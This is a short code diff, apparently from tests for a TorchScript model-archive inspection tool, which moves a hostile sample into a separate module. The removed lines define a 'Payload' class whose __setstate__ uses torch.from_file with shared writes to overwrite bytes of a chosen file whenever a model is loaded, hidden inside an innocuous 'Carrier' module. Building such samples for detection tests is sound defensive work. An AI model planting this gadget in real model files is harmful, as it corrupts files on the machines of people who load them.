@@ -21,29 +21,7 @@ import jitviz
 from jitviz.extract import zipcheck
 
 from . import zipforge
-
-
-@torch.jit.script
-class Payload:
-    def __init__(self, target: str):
-        self.target = target
-        self.written = 0
-
-    def __getstate__(self) -> tuple[str, int]:
-        return (self.target, 0)
-
-    def __setstate__(self, state: tuple[str, int]) -> None:
-        self.target = state[0]
-        self.written = int(torch.from_file(state[0], True, 8, dtype=torch.uint8).fill_(88).sum())
-
-
-class Carrier(nn.Module):
-    def __init__(self, target: str) -> None:
-        super().__init__()
-        self.payload = Payload(target)
-
-    def forward(self, x: torch.Tensor) -> torch.Tensor:
-        return x + 1
+from .hostile import Carrier
 
 
 class Plain(nn.Module):
